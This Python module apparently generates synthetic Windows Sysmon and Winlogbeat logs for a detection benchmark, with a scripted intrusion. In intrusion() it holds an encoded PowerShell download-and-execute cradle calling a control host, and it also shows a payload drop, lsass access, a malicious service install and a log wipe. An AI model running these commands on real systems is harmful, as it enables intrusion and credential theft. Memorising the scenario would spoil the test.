"""Two Windows machines: a desk whose Sysmon NXLog ships flat, a file server whose channels Winlogbeat ships."""

from __future__ import annotations

import base64
import json
import random
from collections.abc import Mapping
from dataclasses import dataclass
from datetime import datetime, timedelta
from uuid import UUID

from bench.morning.story import CONTROL, DESK, DESK_IP, FILES, STAFF, VICTIM, Line, clock, moments

SYSTEM32 = r"C:\Windows\System32"
POWERSHELL = SYSTEM32 + r"\WindowsPowerShell\v1.0\powershell.exe"
DROPPED = r"C:\Users\Public\upd.exe"
EXCEL = r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE"
EVERYDAY = (
    (r"C:\Program Files\Google\Chrome\Application\chrome.exe", r"C:\Windows\explorer.exe"),
    (r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", r"C:\Windows\explorer.exe"),
    (EXCEL, r"C:\Windows\explorer.exe"),
    (SYSTEM32 + r"\svchost.exe", SYSTEM32 + r"\services.exe"),
    (SYSTEM32 + r"\taskhostw.exe", SYSTEM32 + r"\svchost.exe"),
    (SYSTEM32 + r"\SearchProtocolHost.exe", SYSTEM32 + r"\SearchIndexer.exe"),
    (SYSTEM32 + r"\backgroundTaskHost.exe", SYSTEM32 + r"\svchost.exe"),
)
NAMES = ("www.example.com", "mail.example.com", "shop.example.com", "update.example.net", "cdn.example.org")


def numbered(lines: list[Line], first: int) -> list[Line]:
    """Return records in the order of time, with the numbers that the channel would have given them."""
    found = []
    for number, line in enumerate(sorted(lines), first):
        record = json.loads(line.text)
        if "winlog" in record:
            record["winlog"]["record_id"] = number
        else:
            record["RecordNumber"] = number
        found.append(Line(line.at, json.dumps(record)))
    return found


@dataclass(frozen=True)
class Desk:
    """Makes the desk's Sysmon records."""

    rng: random.Random

    def record(self, at: datetime, code: int, task: str, data: Mapping[str, object]) -> Line:
        """Return one record as NXLog's `to_json` writes it: the header's fields and the event's in one object."""
        fields: dict[str, object] = {
            "EventTime": at.strftime("%Y-%m-%d %H:%M:%S"),
            "Hostname": DESK,
            "Keywords": -9223372036854775808,
            "EventType": "INFO",
            "SeverityValue": 2,
            "Severity": "INFO",
            "EventID": code,
            "SourceName": "Microsoft-Windows-Sysmon",
            "ProviderGuid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
            "Version": 5,
            "Task": code,
            "OpcodeValue": 0,
            "RecordNumber": 0,
            "ProcessID": 3120,
            "ThreadID": 4408,
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "Domain": "NT AUTHORITY",
            "AccountName": "SYSTEM",
            "UserID": "S-1-5-18",
            "AccountType": "User",
            "Category": f"{task} (rule: {task})",
            "Opcode": "Info",
            "RuleName": "-",
            "UtcTime": at.strftime("%Y-%m-%d %H:%M:%S.") + f"{at.microsecond // 1000:03}",
            **data,
            "EventReceivedTime": (at + timedelta(seconds=1)).strftime("%Y-%m-%d %H:%M:%S"),
            "SourceModuleName": "sysmon",
            "SourceModuleType": "im_msvistalog",
        }
        return Line(at, json.dumps(fields))

    def guid(self) -> str:
        return "{" + str(UUID(bytes=self.rng.randbytes(16))).upper() + "}"

    def hashes(self) -> str:
        return f"SHA256={self.rng.randbytes(32).hex().upper()}"

    def process(self, at: datetime, image: str, command: str, parent: str, user: str) -> Line:
        data = {
            "ProcessGuid": self.guid(),
            "ProcessId": str(self.rng.randrange(800, 12000)),
            "Image": image,
            "FileVersion": "-" if "Public" in image else "10.0.22621.1",
            "OriginalFileName": "-" if "Public" in image else image.rpartition("\\")[2],
            "CommandLine": command,
            "CurrentDirectory": rf"C:\Users\{user}" + "\\",
            "User": rf"EXAMPLE\{user}",
            "IntegrityLevel": "Medium",
            "Hashes": self.hashes(),
            "ParentProcessGuid": self.guid(),
            "ParentProcessId": str(self.rng.randrange(800, 12000)),
            "ParentImage": parent,
            "ParentCommandLine": f'"{parent}"',
        }
        return self.record(at, 1, "Process Create", data)

    def connection(self, at: datetime, image: str, target: str, port: int, user: str) -> Line:
        data = {
            "ProcessGuid": self.guid(),
            "ProcessId": str(self.rng.randrange(800, 12000)),
            "Image": image,
            "User": rf"EXAMPLE\{user}",
            "Protocol": "tcp",
            "Initiated": "true",
            "SourceIsIpv6": "false",
            "SourceIp": DESK_IP,
            "SourceHostname": DESK,
            "SourcePort": str(self.rng.randrange(49152, 65535)),
            "DestinationIsIpv6": "false",
            "DestinationIp": target,
            "DestinationHostname": "-",
            "DestinationPort": str(port),
        }
        return self.record(at, 3, "Network connection detected", data)

    def question(self, at: datetime, image: str, name: str) -> Line:
        data = {"ProcessGuid": self.guid(), "ProcessId": "5120", "QueryName": name, "QueryStatus": "0"}
        answer = f"::ffff:203.0.113.{self.rng.randrange(100, 120)};"
        return self.record(at, 22, "Dns query", {**data, "QueryResults": answer, "Image": image})

    def dropped(self, at: datetime, image: str, file: str) -> Line:
        made = at.strftime("%Y-%m-%d %H:%M:%S.000")
        data = {"ProcessGuid": self.guid(), "ProcessId": "7312", "Image": image, "TargetFilename": file}
        return self.record(at, 11, "File created", {**data, "CreationUtcTime": made, "User": rf"EXAMPLE\{VICTIM}"})

    def reached(self, at: datetime, source: str, target: str, access: str) -> Line:
        data = {
            "SourceProcessGUID": self.guid(),
            "SourceProcessId": str(self.rng.randrange(800, 12000)),
            "SourceThreadId": "6604",
            "SourceImage": source,
            "TargetProcessGUID": self.guid(),
            "TargetProcessId": "684",
            "TargetImage": target,
            "GrantedAccess": access,
            "CallTrace": SYSTEM32
            + r"\ntdll.dll+9d4c4|"
            + SYSTEM32
            + r"\KERNELBASE.dll+2c13e|UNKNOWN(00000226A3F8D410)",
        }
        return self.record(at, 10, "Process accessed", data)


def sysmon(rng: random.Random) -> list[Line]:
    """Return the desk's Sysmon channel: work, then a workbook that starts what it should not."""
    desk = Desk(rng)
    lines = []
    for at in moments(rng, 260):
        image, parent = rng.choice(EVERYDAY)
        kind = rng.random()
        if kind < 0.5:
            lines.append(desk.process(at, image, f'"{image}"', parent, VICTIM))
        elif kind < 0.75:
            lines.append(desk.connection(at, EVERYDAY[0][0], f"203.0.113.{rng.randrange(100, 120)}", 443, VICTIM))
        elif kind < 0.95:
            lines.append(desk.question(at, EVERYDAY[0][0], rng.choice(NAMES)))
        else:
            lines.append(desk.reached(at, SYSTEM32 + r"\wbem\wmiprvse.exe", SYSTEM32 + r"\lsass.exe", "0x1400"))
    return numbered(lines + intrusion(desk), 88_001)


def intrusion(desk: Desk) -> list[Line]:
    script = f"IEX (New-Object Net.WebClient).DownloadString('http://{CONTROL}/a.ps1')"
    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
    hidden = f"powershell.exe -NoP -W Hidden -Enc {encoded}"
    fetch = f"powershell.exe -Command \"(New-Object Net.WebClient).DownloadFile('http://{CONTROL}/upd', '{DROPPED}')\""
    return [
        desk.process(clock("9:40:12"), POWERSHELL, hidden, EXCEL, VICTIM),
        desk.connection(clock("9:40:13"), POWERSHELL, CONTROL, 80, VICTIM),
        desk.process(clock("9:41:05"), POWERSHELL, fetch, POWERSHELL, VICTIM),
        desk.dropped(clock("9:41:07"), POWERSHELL, DROPPED),
        desk.process(clock("9:46:50"), DROPPED, f"{DROPPED} -m", POWERSHELL, VICTIM),
        desk.reached(clock("9:47:01"), DROPPED, SYSTEM32 + r"\lsass.exe", "0x1410"),
        desk.process(
            clock("9:49:30"), SYSTEM32 + r"\net.exe", r"net group " "Domain Admins" " /domain", DROPPED, VICTIM
        ),
    ]


class Server:
    """Makes the file server's Security and System records."""

    def record(self, at: datetime, code: int, action: str, data: Mapping[str, str], outcome: str = "success") -> Line:
        """Return one record as Winlogbeat writes it."""
        service = code == 7045
        fields = {
            "@timestamp": at.strftime("%Y-%m-%dT%H:%M:%S.") + f"{at.microsecond // 1000:03}Z",
            "agent": {"type": "winlogbeat", "version": "8.17.0", "name": "FILE01"},
            "ecs": {"version": "8.0.0"},
            "event": {
                "code": str(code),
                "kind": "event",
                "action": action,
                "provider": "Service Control Manager" if service else "Microsoft-Windows-Security-Auditing",
                **({} if service else {"outcome": outcome}),
            },
            "host": {"name": FILES},
            "log": {"level": "information"},
            "message": f"{action}.",
            "winlog": {
                "api": "wineventlog",
                "channel": "System" if service else "Security",
                "computer_name": FILES,
                "event_id": str(code),
                "provider_name": "Service Control Manager" if service else "Microsoft-Windows-Security-Auditing",
                "record_id": 0,
                "task": action,
                "opcode": "Info",
                "keywords": ["Classic"] if service else [f"Audit {outcome.capitalize()}"],
                "process": {"pid": 712, "thread": {"id": 764}},
                "event_data": dict(data),
            },
        }
        return Line(at, json.dumps(fields))

    def logon(self, at: datetime, who: str, source: str, number: str) -> Line:
        data = {
            **subject("-", "-", "0x0"),
            **target(who, number),
            "LogonType": "3",
            "LogonProcessName": "NtLmSsp ",
            "AuthenticationPackageName": "NTLM",
            "WorkstationName": "-",
            "IpAddress": source,
            "IpPort": "0",
            "ProcessName": "-",
        }
        return self.record(at, 4624, "Logon", data)

    def refused(self, at: datetime, who: str, source: str) -> Line:
        data = {
            **subject("-", "-", "0x0"),
            "TargetUserName": who,
            "TargetDomainName": "EXAMPLE",
            "Status": "0xc000006d",
            "FailureReason": "%%2313",
            "SubStatus": "0xc000006a",
            "LogonType": "3",
            "LogonProcessName": "NtLmSsp ",
            "AuthenticationPackageName": "NTLM",
            "WorkstationName": "WS07",
            "IpAddress": source,
            "IpPort": "0",
        }
        return self.record(at, 4625, "Logon", data, "failure")


def subject(name: str, domain: str, logon: str) -> dict[str, str]:
    return {
        "SubjectUserSid": "S-1-0-0",
        "SubjectUserName": name,
        "SubjectDomainName": domain,
        "SubjectLogonId": logon,
    }


def target(name: str, logon: str) -> dict[str, str]:
    return {"TargetUserName": name, "TargetDomainName": "EXAMPLE", "TargetLogonId": logon}


def server(rng: random.Random) -> list[Line]:
    """Return the file server's records: people open shares, then somebody moves in and wipes the log."""
    host = Server()
    lines = []
    for at in moments(rng, 150):
        who, number = rng.choice(STAFF), f"0x{rng.randrange(1 << 20, 1 << 28):x}"
        lines.append(host.logon(at, who, f"10.20.3.{rng.randrange(2, 40)}", number))
        gone = at + timedelta(seconds=rng.randrange(5, 900))
        lines.append(host.record(gone, 4634, "Logoff", {**target(who, number), "LogonType": "3"}))
    return numbered(lines + moving_in(host), 410_001)


def moving_in(host: Server) -> list[Line]:
    admin = subject("svc-backup", "EXAMPLE", "0x5d1a2c")
    service = {
        "ServiceName": "UpdSvc",
        "ImagePath": DROPPED + " -svc",
        "ServiceType": "user mode service",
        "StartType": "auto start",
        "AccountName": "LocalSystem",
    }
    member = {"MemberName": "-", "MemberSid": "S-1-5-21-1004336348-1177238915-682003330-1131"}
    group = {"TargetUserName": "Administrators", "TargetDomainName": "Builtin", "TargetSid": "S-1-5-32-544"}
    guesses = [
        host.refused(clock("9:51") + timedelta(seconds=4 * number), who, DESK_IP)
        for number, who in enumerate(("administrator", "admin", "svc-sql", "svc-backup", "svc-backup"))
    ]
    return [
        *guesses,
        host.logon(clock("9:51:40"), "svc-backup", DESK_IP, "0x5d1a2c"),
        host.record(clock("9:51:40"), 4672, "Special Logon", {**admin, "PrivilegeList": "SeDebugPrivilege"}),
        host.record(clock("9:52:15"), 7045, "Service installed", service),
        host.record(clock("9:55:02"), 4720, "User Account Management", {**target("helpdesk2", "-"), **admin}),
        host.record(clock("9:55:03"), 4732, "Security Group Management", {**member, **group, **admin}),
        host.record(clock("10:52:30"), 1102, "Log clear", admin),
    ]
